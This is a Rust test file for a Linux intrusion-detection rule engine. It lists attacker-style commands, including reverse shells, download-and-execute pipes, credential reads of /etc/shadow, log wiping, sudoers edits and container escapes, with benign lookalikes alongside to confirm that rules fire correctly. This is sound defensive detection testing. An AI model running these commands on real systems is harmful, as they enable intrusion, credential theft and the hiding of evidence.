use std::io::Read as _;
use std::path::Path;
use std::process::{Command, Stdio};

use vigie_kernel_events::{Account, File};

use super::*;
use crate::record::{Program, Record, Run, What};
use crate::table::Table;

const ANN: Account = Account::user(1000);

fn exec(path: &str, arguments: &[&str]) -> Record {
    let run = Run {
        program: Program { path: path.into(), file: File { links: 1, mode: 0o100_755, ..File::default() } },
        arguments: vigie_kernel_events::Listed::from_bytes(arguments.join("\0").into_bytes()),
        ..Run::default()
    };
    Record { time: 1, who: Key { pid: 7, start: 1 }, what: What::Exec(Box::new(run)) }
}

fn fires(rules: &mut Rules, record: &Record) -> Vec<String> {
    let table = Table::default();
    let facts = Facts::new(record, ANN, &table, [0; 4]);
    rules.ask(&facts, record.time).iter().map(|fired| fired.rule.id.clone()).collect()
}

const RULES: &str = r#"
[lists]
tools = ["nc", "ncat*"]

[[rule]]
id = "one"
title = "One"
severity = "high"
on = ["exec"]
when = [{ exe.name = "$tools", argument = "-e" }, { exe.path = "/tmp/*", arguments = ">=3" }]
unless = [{ argument = "quiet" }]
"#;

#[test]
fn one_of_when_must_fit_and_none_of_unless() {
    let mut rules = Rules::new(parse(RULES).unwrap(), &[]);

    assert_eq!(fires(&mut rules, &exec("/usr/bin/ncat.openbsd", &["ncat", "-e", "sh"])), ["one"]);
    assert!(fires(&mut rules, &exec("/usr/bin/nc", &["nc", "-l"])).is_empty());
    assert_eq!(fires(&mut rules, &exec("/tmp/x", &["x", "1", "2"])), ["one"]);
    assert!(fires(&mut rules, &exec("/tmp/y", &["y", "1"])).is_empty());
    assert!(fires(&mut rules, &exec("/usr/bin/nc", &["nc", "-e", "quiet"])).is_empty());
}

#[test]
fn the_same_again_is_counted_and_not_told() {
    let mut rules = Rules::new(parse(RULES).unwrap(), &[]);
    let mut record = exec("/tmp/x", &["x", "1", "2"]);

    assert_eq!(fires(&mut rules, &record).len(), 1);
    assert!(fires(&mut rules, &record).is_empty());
    record.time += QUIET;
    let table = Table::default();
    let facts = Facts::new(&record, ANN, &table, [0; 4]);
    let again: Vec<u64> = rules.ask(&facts, record.time).iter().map(|fired| fired.repeated).collect();

    assert_eq!(again, [1]);
}

#[test]
fn what_is_wrong_is_told_with_its_rule() {
    for (from, to, problem) in [
        ("exe.name", "exe.nome", "unknown field"),
        ("\"$tools\"", "\"$nothing\"", "unknown list"),
        ("\"high\"", "\"loud\"", "unknown severity"),
        ("[\"exec\"]", "[\"execute\"]", "unknown kind"),
        ("\">=3\"", "\"many\"", "not a number"),
        ("title", "titel", "unknown field"),
    ] {
        let problems = parse(&RULES.replacen(from, to, 1)).unwrap_err();

        assert!(problems.iter().any(|text| text.contains(problem)), "{problems:?}");
    }
}

#[test]
fn the_built_in_rules_are_whole() {
    let rules = parse(BUILTIN).unwrap();

    assert!(rules.len() >= 40, "{}", rules.len());
    for rule in &rules {
        assert!(rule.trigger.is_some(), "{} has no trigger", rule.id);
        assert!(!rule.attack.is_empty(), "{} has no technique", rule.id);
        assert!(rule.attack.iter().all(|id| id.starts_with('T') && id.len() >= 5), "{}", rule.id);
    }
}

/// Other ways to do the same: which rule must report each. What the kernel has to tell for it is told by the kernel.
const VARIANTS: &[(&str, &str)] = &[
    (
        "deleted-or-memory-listen",
        r#"cp $(readlink -f /usr/bin/python3) $D/d
$D/d -c "import os,socket;os.unlink('$D/d');s=socket.socket();s.bind(('127.0.0.1',0));s.listen()""#,
    ),
    // Another process removes it.
    (
        "deleted-or-memory-listen",
        r#"cp $(readlink -f /usr/bin/python3) $D/e
$D/e -c "import subprocess,socket;subprocess.run(['rm','$D/e']);s=socket.socket();s.bind(('127.0.0.1',0));s.listen()""#,
    ),
    ("download-pipe-shell", "cp $(readlink -f /bin/sh) $D/curl; bash <($D/curl -c 'echo true')"),
    (
        "memfd-exec",
        r#"python3 -c "import os;fd=os.memfd_create('x',0);os.write(fd,b'#!/bin/sh\ntrue\n');os.execve('/proc/self/fd/%d'%fd,['x'],{})""#,
    ),
    (
        "memfd-exec",
        r#"python3 -c "import os;fd=os.memfd_create('x',0);os.write(fd,b'#!/bin/sh\ntrue\n');os.execve(fd,['x'],{})""#,
    ),
    (
        "memfd-exec",
        r#"python3 -c "import os;fd=os.memfd_create('x',0);os.write(fd,b'true\n');os.execv('/bin/sh',['sh','/proc/self/fd/%d'%fd])""#,
    ),
    ("web-command", "cp $(readlink -f /bin/sh) $D/nginx; $D/nginx -c '/bin/cat /etc/hostname; true'"),
    ("web-command", "cp $(readlink -f /bin/sh) $D/apache2; $D/apache2 -c 'perl -e 1; true'"),
    ("download-pipe-shell", "noop curl; $D/curl | cat | sh"),
    ("download-pipe-shell", "noop wget; $D/wget | cat | cat | python3 -"),
    ("download-pipe-shell-text", "bash -c 'source <(curl http://127.0.0.1:9/x)'"),
    ("download-pipe-shell-text", "noop curl; x=$($D/curl); bash -c '#!/bin/sh\ntrue'"),
    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl -o $D/got http://127.0.0.1/x; $D/got"),
    (
        "download-execute-tmp",
        "noop curl; cp /bin/true $D/got; timeout 9 $D/curl -fsSLO http://127.0.0.1/got; $D/got",
    ),
    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl http://127.0.0.1/x > $D/x; $D/got"),
    ("download-execute-tmp", "noop wget; echo true > $D/y; $D/wget; cd $D; sh y"),
    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl -s U | base64 -d > $D/x; $D/got"),
    (
        "download-execute-tmp",
        "noop curl; cp /bin/true $D/got; sh -c '$D/curl U > $D/x; $D/got; true' > $D/log",
    ),
    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; bash -c 'cd $D; ./curl -O U/x; true'; $D/got"),
    (
        "exec-shared-memory",
        "F=vigie-test-$$; cd /dev/shm; printf '#!/bin/sh\n' > $F; chmod +x $F; ./$F; rm -f $F",
    ),
    ("exec-shared-memory", "F=vigie-test-$$; cd /dev/shm; echo true > $F; sh $F; rm -f $F"),
    ("reverse-shell-pipe", "noop nc; mkfifo $D/f; sh < $D/f 2>&1 | $D/nc > $D/f"),
    ("reverse-shell-pipe", "cp $(readlink -f /bin/sh) $D/ncat; $D/ncat -c 'sh -c true; true'"),
    ("reverse-shell-socket", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/'$PORT'; id >&3'"),
    ("scan", "bash -c 'for p in $(seq 20100 20180); do (exec 3<>/dev/tcp/127.0.0.7/$p) 2>/dev/null; done'"),
];

#[test]
fn variants_of_what_rules_are_about_fire_them_on_this_kernel() {
    let mut silent = Vec::new();
    for (rule, script) in VARIANTS {
        let dir = tempfile::tempdir().unwrap();
        let Some((mut engine, told)) = crate::tests::engine(dir.path(), serde_json::json!({})) else {
            return;
        };
        let work = tempfile::tempdir().unwrap();
        crate::tests::trigger(&mut engine, work.path(), script);
        crate::tests::all_is_read(&mut engine, &told, work.path());
        if !told.alerts().iter().any(|alert| alert["rule"] == **rule) {
            silent.push(format!("{rule}: {script}"));
        }
    }

    assert!(silent.is_empty(), "{silent:#?}");
}

/// A daemon whose package was upgraded listens again: its file is another one now.
#[test]
fn a_daemon_whose_file_was_replaced_by_an_upgrade_listens_without_an_alert() {
    let dir = tempfile::tempdir().unwrap();
    let Some((mut engine, told)) = crate::tests::engine(dir.path(), serde_json::json!({})) else { return };
    let Ok(opt) = tempfile::Builder::new().prefix("vigie-upgraded").tempdir_in("/opt") else {
        return vigie_skipped::without_bpf("/opt cannot be written");
    };
    let daemon = opt.path().join("daemon");
    let script = format!(
        r#"P={}; cp $(readlink -f /usr/bin/python3) $P
$P -c "import os,shutil,socket;shutil.copy('$P','$P.new');os.rename('$P.new','$P');s=socket.socket();s.bind(('127.0.0.1',0));s.listen()""#,
        daemon.display()
    );
    crate::tests::trigger(&mut engine, dir.path(), &script);
    // One that has a mount namespace of its own: while it lives its files can be seen.
    let path = opt.path().join("sandboxed");
    vigie_skipped::copy_program(Path::new("/usr/bin/python3"), &path);
    let code = format!(
        "import os,shutil,socket,sys;shutil.copy('{0}','{0}.new');os.rename('{0}.new','{0}');\
         s=socket.socket();s.bind(('127.0.0.1',0));s.listen();print(1,flush=True);sys.stdin.read()",
        path.display()
    );
    let mut sandboxed = Command::new("unshare")
        .arg("-m")
        .arg(&path)
        .args(["-c", &code])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("unshare");
    let mut byte = [0];
    sandboxed.stdout.as_mut().expect("it is piped").read_exact(&mut byte).expect("it listens");
    crate::tests::all_is_read(&mut engine, &told, dir.path());
    sandboxed.kill().unwrap();
    sandboxed.wait().unwrap();

    let alerts = told.alerts();
    let wrong = alerts.iter().filter(|alert| crate::tests::is_from(alert, opt.path()));
    assert_eq!(wrong.collect::<Vec<_>>(), Vec::<&serde_json::Value>::new());
}

/// Spellings of the same: program, its arguments, and the rule.
const SPELLINGS: &[(&str, &str, &str)] = &[
    ("/bin/chmod", "chmod 4755 x", "setuid-made"),
    ("/bin/chmod", "chmod 04755 x", "setuid-made"),
    ("/bin/chmod", "chmod 2755 x", "setuid-made"),
    ("/bin/chmod", "chmod +4000 x", "setuid-made"),
    ("/bin/chmod", "chmod a+s x", "setuid-made"),
    ("/bin/chmod", "chmod g+s x", "setuid-made"),
    ("/bin/chmod", "chmod u+xs x", "setuid-made"),
    ("/bin/chmod", "chmod -R go-w,u=rwxs x", "setuid-made"),
    ("/usr/bin/install", "install -m 4755 a b", "setuid-made"),
    ("/usr/bin/install", "install -m4755 a b", "setuid-made"),
    ("/usr/bin/install", "install -Dm 4755 a b", "setuid-made"),
    ("/usr/bin/install", "install --mode 4755 a b", "setuid-made"),
    ("/usr/bin/install", "install --mode=4755 a b", "setuid-made"),
    ("/usr/bin/install", "install --mod=u+s a b", "setuid-made"),
    ("/bin/busybox", "chmod 4755 x", "setuid-made"),
    ("/bin/busybox", "busybox chmod 4755 x", "setuid-made"),
    ("/usr/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2 /bin/chmod 4755 x", "setuid-made"),
    ("/usr/bin/nsenter", "nsenter --mount=/proc/1/ns/mnt sh", "namespace-enter"),
    ("/usr/bin/nsenter", "nsenter -at1 sh", "namespace-enter"),
    ("/usr/bin/nsenter", "nsenter --target 1 -m", "namespace-enter"),
    ("/usr/sbin/chroot", "chroot /proc/1/root sh", "namespace-enter"),
    ("/sbin/auditctl", "auditctl -e 0", "log-off"),
    ("/sbin/auditctl", "auditctl -e0", "log-off"),
    ("/sbin/auditctl", "auditctl -e=0", "log-off"),
    ("/usr/bin/pkill", "pkill -9 -f auditd", "log-off"),
    ("/bin/rm", "rm -rf ../var/log/nginx", "log-wipe"),
    ("/bin/cp", "cp /dev/null /var/log/auth.log", "log-wipe"),
    ("/usr/bin/journalctl", "journalctl --rotate --vacuum-time 1s", "log-wipe"),
    ("/usr/bin/touch", "touch -amt 200001010000 passwd", "timestomp"),
    ("/usr/bin/cat", "cat shadow", "credentials-read"),
    ("/usr/bin/cat", "cat /etc//shadow a.pub", "credentials-read"),
    ("/usr/bin/sed", "sed -n p /etc/../etc/shadow", "credentials-read"),
    ("/usr/bin/nc.openbsd", "nc -nvz 192.0.2.1 1-1000", "scanner"),
    ("/usr/bin/ssh", "ssh -fNR 9000:localhost:22 h", "tunnel"),
    ("/usr/bin/curl", "curl -sT /etc/passwd http://h/", "upload"),
    ("/usr/bin/docker", "docker run -itv /:/host alpine", "container-host-mount"),
    ("/usr/sbin/useradd", "useradd -ou0 x", "new-root-user"),
    ("/usr/sbin/usermod", "usermod -aG users,sudo x", "admin-group"),
    ("/usr/sbin/usermod", "usermod --append --groups=docker x", "admin-group"),
    ("/usr/bin/install", "install -m 440 x /etc/sudoers.d/", "sudoers"),
    ("/usr/sbin/xtables-nft-multi", "iptables -t nat -F", "firewall-off"),
    ("/usr/bin/kmod", "insmod ./x.ko", "module-load"),
    ("/usr/bin/kmod", "kmod insmod ./x.ko", "module-load"),
    ("/usr/bin/bash", "bash /dev/shm/x.sh", "exec-shared-memory"),
];

/// The same beyond what an option is called: other tools, other ways.
const OTHER_WAYS: &[(&str, &[&str], &str)] = &[
    ("/bin/bash", &["-c", "eval \"$(wget -qO- http://h/x)\""], "download-pipe-shell-text"),
    ("/bin/bash", &["-c", "source <(curl -s http://h/x)"], "download-pipe-shell-text"),
    ("/bin/bash", &["-c", ". <(curl -s http://h/x)"], "download-pipe-shell-text"),
    ("/bin/sh", &["-c", "sh -c \"$(curl -fsSL http://h/x)\""], "download-pipe-shell-text"),
    ("/bin/sh", &["-c", "curl -s http://h/x | sudo -E bash -"], "download-pipe-shell-text"),
    (
        "/usr/bin/python3.11",
        &["-c", "import urllib.request as u;exec(u.urlopen('http://h').read())"],
        "download-pipe-shell-text",
    ),
    ("/usr/bin/php8.2", &["-r", "eval(file_get_contents('http://h/x'));"], "download-pipe-shell-text"),
    ("/bin/sh", &["-c", "echo eA== | base64 -d | sh"], "decode-pipe-shell"),
    ("/usr/bin/python3.11", &["-c", "import base64;exec(base64.b64decode('eA=='))"], "decode-pipe-shell"),
    ("/usr/bin/perl", &["-MMIME::Base64", "-e", "eval decode_base64('eA==')"], "decode-pipe-shell"),
    (
        "/usr/bin/perl",
        &["-MIO", "-e", "new IO::Socket::INET(1);system$_ while<>"],
        "interpreter-socket-one-liner",
    ),
    (
        "/usr/bin/php8.2",
        &["-r", "$s=fsockopen('h',1);proc_open('sh',[],$p);"],
        "interpreter-socket-one-liner",
    ),
    ("/usr/bin/gawk", &["BEGIN{s=\"/inet/tcp/0/h/1\";s|&getline}"], "dev-tcp"),
    ("/bin/dash", &["x.sh"], "exec-shared-memory"),
    ("/usr/lib64/ld-linux-x86-64.so.2", &["/tmp/x"], "loader"),
    ("/usr/sbin/aa-teardown", &[], "log-off"),
    ("/bin/systemctl", &["stop", "syslog.socket"], "log-off"),
    ("/usr/sbin/apparmor_parser", &["-R", "/etc/apparmor.d/x"], "log-off"),
    ("/bin/sed", &["-i", "/192.0.2.1/d", "/var/log/auth.log"], "log-wipe"),
    ("/bin/mv", &["/var/log/wtmp", "/tmp/x"], "log-wipe"),
    ("/bin/sh", &["-c", ": > /var/log/auth.log"], "log-wipe"),
    ("/bin/sh", &["-c", "cd /; cat /dev/null > /var/log/auth.log"], "log-wipe"),
    ("/bin/sh", &["-c", "cp /dev/null /var/log/wtmp"], "log-wipe"),
    ("/usr/bin/cat", &["/var/www/.ssh/deploy_key"], "credentials-read"),
    ("/usr/bin/dmesg", &["-C"], "log-wipe"),
    ("/usr/bin/utmpdump", &["-r", "x"], "log-wipe"),
    ("/bin/mv", &["/root/.bash_history", "/tmp/x"], "history-off"),
    ("/bin/bash", &["+o", "history"], "history-off"),
    ("/usr/bin/touch", &["-r", "/bin/ls", "/opt/x/y"], "timestomp"),
    ("/usr/bin/python3.11", &["-c", "print(open('/etc/shadow').read())"], "credentials-read"),
    ("/usr/bin/rev", &["/etc/shadow"], "credentials-read"),
    ("/bin/tar", &["cf", "x", "-C", "/etc", "shadow"], "credentials-read"),
    ("/usr/bin/getent", &["shadow"], "credentials-read"),
    ("/usr/bin/curl", &["file:///etc/shadow"], "credentials-read"),
    ("/usr/bin/cat", &["/home/a/.aws/credentials"], "credentials-read"),
    ("/usr/bin/python3.11", &["-c", "open('/proc/1/environ')"], "environment-read"),
    ("/usr/bin/curl", &["http://2852039166/latest/"], "cloud-metadata-tool"),
    ("/opt/x", &["-a", "rx/0", "-o", "h:443"], "miner"),
    ("/bin/bash", &["/root/linpeas.sh"], "scanner"),
    ("/usr/bin/socat", &["tcp-l:80,fork", "tcp:h:80"], "tunnel"),
    ("/usr/bin/curl", &["-T", "/etc/passwd", "http://h/"], "upload"),
    ("/usr/bin/rclone", &["copy", "/srv", "x:"], "upload"),
    ("/usr/bin/docker", &["run", "-v", "/etc:/x", "alpine"], "container-host-mount"),
    ("/usr/bin/docker", &["run", "--device", "/dev/sda", "alpine"], "container-host-mount"),
    ("/usr/bin/kubectl", &["run", "--overrides", "{\"hostPID\": true}"], "container-host-mount"),
    ("/bin/sh", &["-c", "echo /x > /proc/sys/kernel/modprobe"], "release-agent"),
    ("/usr/sbin/sysctl", &["-w", "kernel.core_pattern=|/tmp/x"], "release-agent"),
    ("/bin/sed", &["-i", "s/1000/0/", "/etc/passwd"], "new-root-user"),
    ("/bin/cp", &["/tmp/p", "/etc/passwd"], "new-root-user"),
    ("/usr/bin/passwd", &["-d", "root"], "new-root-user"),
    ("/usr/sbin/usermod", &["-g", "0", "x"], "admin-group"),
    ("/bin/sh", &["-c", "echo 'x ALL=(ALL) ALL' >> /etc/sudoers"], "sudoers"),
    ("/bin/chmod", &["777", "/etc/sudoers"], "sudoers"),
    ("/bin/sed", &["-i", "1d", "/root/.ssh/authorized_keys"], "ssh-keys"),
    ("/usr/bin/systemd-run", &["/tmp/x"], "unit-made"),
    ("/bin/date", &["010100002030"], "clock-set"),
    ("/usr/sbin/xtables-nft-multi", &["-P", "INPUT", "ACCEPT"], "firewall-off"),
    ("/bin/tar", &["cf", "x", "x", "--checkpoint=1", "--checkpoint-action=exec=sh"], "shell-escape"),
    ("/usr/bin/mawk", &["BEGIN {system(\"/bin/sh\")}"], "shell-escape"),
    ("/usr/bin/apt-get", &["update", "-o", "APT::Update::Pre-Invoke::=/bin/sh"], "shell-escape"),
    ("/bin/chroot", &["/proc/1/root"], "namespace-enter"),
    ("/usr/bin/perl", &["-e", "chmod 04755, 'x'"], "setuid-made"),
];

/// What looks like them.
const HARMLESS: &[(&str, &str)] = &[
    ("/bin/chmod", "chmod 0755 x"),
    ("/bin/chmod", "chmod u-s x"),
    ("/bin/chmod", "chmod -R go=rX,u+w dist"),
    ("/usr/bin/install", "install -o root -g games -m 0755 a b"),
    ("/usr/bin/ssh", "ssh -oUserKnownHostsFile=/dev/null -oForwardAgent=no h"),
    ("/usr/bin/curl", "curl -XPUT -HTest:1 -fsSL http://h/"),
    ("/usr/bin/date", "date -Iseconds"),
    ("/usr/bin/touch", "touch -c /etc/x"),
    ("/sbin/auditctl", "auditctl -e 1"),
    ("/usr/bin/nsenter", "nsenter -t 12 -m true"),
    ("/usr/sbin/useradd", "useradd -u 1000 -m x"),
    ("/usr/sbin/xtables-nft-multi", "iptables -w -F f2b-sshd"),
    ("/bin/busybox", "ls -la"),
    ("/usr/bin/journalctl", "journalctl --vacuum-time=10d"),
    ("/usr/bin/cat", "cat /proc/self/environ"),
    ("/bin/date", "date -d yesterday"),
    ("/bin/date", "date +%s"),
    ("/bin/cp", "cp /etc/passwd /backup/passwd"),
    ("/usr/bin/tar", "tar czf x.tgz /etc/nginx"),
    ("/bin/bash", "bash /usr/local/bin/x.sh"),
    ("/usr/bin/python3.11", "python3 -m json.tool"),
    ("/usr/sbin/xtables-nft-multi", "iptables -A INPUT -j ACCEPT"),
    ("/usr/bin/docker", "docker run -v /srv/x:/x alpine"),
];

/// What looks like other ways.
const HARMLESS_TEXTS: &[(&str, &[&str])] = &[
    ("/bin/sh", &["-c", "curl -s http://h/x | grep sha256"]),
    ("/bin/sh", &["-c", "x=\"$(curl -s http://h/ip)\"; echo $x"]),
    ("/bin/sh", &["-c", "curl -f http://localhost/ || exit 1"]),
    ("/bin/bash", &["-c", "diff <(curl http://h/a) <(curl http://h/b)"]),
    ("/bin/sh", &["-c", "export P=$(kubectl get secret x | base64 -d)"]),
    ("/bin/sh", &["-c", "echo done >> /var/log/app.log"]),
    ("/bin/sh", &["-c", "backup > /var/log/backup.log 2>&1"]),
    ("/bin/sh", &["-c", "backup 2>/dev/null >/var/log/backup.log"]),
    ("/usr/bin/python3.11", &["-c", "import json,sys; print(json.load(sys.stdin))"]),
    ("/usr/bin/awk", &["{ system(\"\") }"]),
];

fn all_that_fire(path: &str, command: &str, change: impl FnOnce(&mut Run)) -> Vec<String> {
    let all: Vec<&str> = command.split(' ').collect();
    below(&[("/usr/lib/systemd/systemd", 0), ("/usr/sbin/sshd", 0), ("/bin/bash", 0)], path, &all, change)
}

/// What fires on an exec below these programs, which belong to these users and are run by them. Behind a blank is what one
/// is called, with its arguments.
fn below(
    ancestors: &[(&str, u32)],
    path: &str,
    arguments: &[&str],
    change: impl FnOnce(&mut Run),
) -> Vec<String> {
    let mut rules = Rules::new(parse(BUILTIN).unwrap(), &[]);
    let mut table = Table::default();
    let mut maker = Key::default();
    for ((called, owner), pid) in ancestors.iter().zip(1..) {
        let (path, called) = called.split_once(' ').unwrap_or((called, called));
        let arguments: Vec<&str> = called.split(' ').collect();
        let What::Exec(mut run) = exec(path, &arguments).what else { panic!("it is one") };
        run.program.file.owner = *owner;
        run.rights.uid = *owner;
        run.maker = maker;
        maker = Key { pid, start: 1 };
        table.exec(maker, ANN, 0, &run);
    }
    let mut record = exec(path, arguments);
    if let What::Exec(run) = &mut record.what {
        run.cwd = b"/etc".to_vec();
        run.maker = maker;
        change(run);
    }
    let facts = Facts::new(&record, ANN, &table, [0; 4]);
    rules.ask(&facts, 0).iter().map(|fired| fired.rule.id.clone()).collect()
}

#[test]
fn other_ways_to_do_the_same_fire_and_what_looks_like_them_does_not() {
    let fired = |path: &str, arguments: &[&str]| {
        let all: Vec<&str> =
            [path.rsplit('/').next().unwrap()].into_iter().chain(arguments.iter().copied()).collect();
        let cwd = if arguments == ["x.sh"] { "/dev/shm" } else { "/root" };
        let ancestors = [("/usr/lib/systemd/systemd", 0), ("/bin/bash", 0)];
        below(&ancestors, path, &all, |run| run.cwd = cwd.into())
    };
    let silent: Vec<_> = OTHER_WAYS
        .iter()
        .filter(|(path, arguments, rule)| !fired(path, arguments).iter().any(|it| it == rule))
        .collect();
    let wrong: Vec<_> = HARMLESS_TEXTS
        .iter()
        .map(|(path, arguments)| (arguments, fired(path, arguments)))
        .filter(|(_, fired)| !fired.is_empty())
        .collect();

    assert!(silent.is_empty(), "silent: {silent:#?}");
    assert!(wrong.is_empty(), "wrong: {wrong:#?}");
}

#[test]
fn a_person_may_look_after_his_own_keys() {
    let fired = |path: &str, command: &str, euid| {
        let of_login = |run: &mut Run| {
            run.rights.login_uid = Some(1000);
            run.rights.euid = euid;
        };
        all_that_fire(path, command, of_login).contains(&"credentials-read".to_owned())
    };

    assert!(!fired("/bin/mv", "mv /home/a/.ssh/new.pem /home/a/.ssh/aws.pem", 1000));
    assert!(!fired("/usr/bin/less", "less /home/a/.ssh/deploy_key", 1000));
    assert!(fired("/usr/bin/cat", "cat /home/a/.ssh/id_rsa", 1000));
    // By sudo.
    assert!(fired("/usr/bin/cat", "cat /root/.ssh/prod.pem", 0));
}

/// What inetd and systemd (Accept=yes) start for a connection has it as its output.
#[test]
fn a_script_that_serves_a_connection_is_no_reverse_shell_and_a_shell_of_a_service_is_one() {
    const INTERNET: (u32, u32) = (0o140_000, 2);
    let fired = |ancestors: &[&str], path: &str, input: (u32, u32)| {
        let ancestors: Vec<(&str, u32)> = ancestors.iter().map(|path| (*path, 0)).collect();
        let all = below(&ancestors, path, &["x"], |run| run.standard = [input, INTERNET, INTERNET]);
        all.iter().any(|it| it == "reverse-shell-socket")
    };
    let null = (0o020_000, 1);

    for above in ["/usr/sbin/xinetd", "/usr/lib/systemd/systemd"] {
        assert!(!fired(&[above, "/bin/bash"], "/usr/bin/id", null), "{above}");
    }
    assert!(!fired(&["/usr/sbin/xinetd", "/bin/bash", "/bin/sh"], "/usr/bin/id", null));
    assert!(fired(&["/usr/lib/systemd/systemd", "/usr/bin/java", "/bin/bash"], "/usr/bin/id", null));
    assert!(fired(&["/usr/lib/systemd/systemd", "/usr/bin/java"], "/bin/sh", INTERNET));
}

#[test]
fn tools_that_download_write_a_file_or_not() {
    let does = |command: &str| {
        let all: Vec<&str> = command.split(' ').collect();
        let What::Exec(run) = exec(&format!("/usr/bin/{}", all[0]), &all).what else { panic!("it is one") };
        download(&run)
    };
    let files =
        ["curl -o x h", "curl -fsSLO h", "curl --output=x h", "curl -sox h", "wget h", "wget -qO x h"];
    let outputs =
        ["curl h", "curl -so /dev/null h", "curl -o - h", "wget -qO- h", "wget -O - h", "wget --spider h"];

    for command in files {
        assert_eq!(does(command), Some(Download::File), "{command}");
    }
    for command in outputs {
        assert_eq!(does(command), Some(Download::Output), "{command}");
    }
    assert_eq!(does("git -o x"), None);
}

/// A user can call his shell as he likes.
#[test]
fn nobody_is_excused_by_a_name_that_anybody_can_give() {
    let fired = |path: &str, owner, uid| {
        let all = ["auditctl", "-e", "0"];
        !below(&[(path, owner)], "/sbin/auditctl", &all, |run| run.rights.uid = uid).is_empty()
    };

    assert!(!fired("/usr/bin/apt", 0, 33));
    for path in ["/tmp/apt", "/dev/shm/x/apt", "memfd:apt"] {
        assert!(fired(path, 0, 0), "{path}");
    }
    assert!(!fired("/home/a/apt", 1000, 0));
    for (path, owner) in [("/var/www/x/apt", 33), ("/srv/x/apt", 65_534), ("/var/lib/private/x/apt", 61_500)]
    {
        assert!(fired(path, owner, owner), "{path}");
    }
    assert!(!fired("/bin/busybox apt", 0, 0));
    assert!(fired("/tmp/busybox apt", 0, 0));
    assert!(fired("/usr/lib64/ld-linux-x86-64.so.2 ld-linux-x86-64.so.2 /tmp/apt", 0, 0));
    // systemd is an ancestor of everything: no rule may excuse for it.
    for rule in parse(BUILTIN).unwrap() {
        for (field, patterns) in rule.unless.iter().flatten() {
            let is_one = |pattern: &Pattern| {
                ["systemd", "init", "sshd"].iter().any(|it| pattern.fits_text(it.as_bytes()))
            };
            assert!(*field != Field::AncestorName || !patterns.iter().any(is_one), "{}", rule.id);
        }
    }
}

#[test]
fn a_clock_that_is_set_back_keeps_no_alert_back() {
    let mut rules = Rules::new(parse(RULES).unwrap(), &[]);
    let mut record = exec("/tmp/x", &["x", "1", "2"]);
    let table = Table::default();
    let mut asked = |record: &Record, now| rules.ask(&Facts::new(record, ANN, &table, [0; 4]), now).len();

    record.time = 10_000 * QUIET;
    assert_eq!(asked(&record, 0), 1);
    record.time = QUIET;
    assert_eq!(asked(&record, QUIET), 1);
}

#[test]
fn options_modes_and_files_are_known_in_each_spelling() {
    let silent: Vec<&str> = SPELLINGS
        .iter()
        .filter(|(path, command, rule)| !all_that_fire(path, command, |_| ()).iter().any(|it| it == rule))
        .map(|(_, command, _)| *command)
        .collect();
    let wrong: Vec<_> = HARMLESS
        .iter()
        .map(|(path, command)| (command, all_that_fire(path, command, |_| ())))
        .filter(|(_, fired)| !fired.is_empty())
        .collect();

    assert!(silent.is_empty(), "silent: {silent:#?}");
    assert!(wrong.is_empty(), "wrong: {wrong:#?}");
}

#[test]
fn each_entry_of_a_list_of_libraries_counts() {
    for (cwd, value) in [
        ("/", "libm.so.6:/tmp/x.so"),
        ("/", "libm.so.6 /tmp/x.so"),
        ("/tmp", "libm.so.6:./x.so"),
        ("/", "/usr/lib/../../tmp/x.so"),
    ] {
        let fired = all_that_fire("/bin/true", "true", |run| {
            run.cwd = cwd.into();
            run.environment = vec![(b"LD_PRELOAD".to_vec(), value.into())];
        });

        assert_eq!(fired, ["preload-writable"], "{value}");
    }
}

#[test]
fn every_account_of_a_service_is_one() {
    for (uid, expected) in [(33, true), (999, true), (64_000, true), (0, false), (1000, false)] {
        for program in ["at", "batch", "crontab"] {
            let fired = all_that_fire(&format!("/usr/bin/{program}"), "x now", |run| run.rights.uid = uid);

            assert_eq!(!fired.is_empty(), expected, "{program} of {uid}: {fired:?}");
        }
    }
}
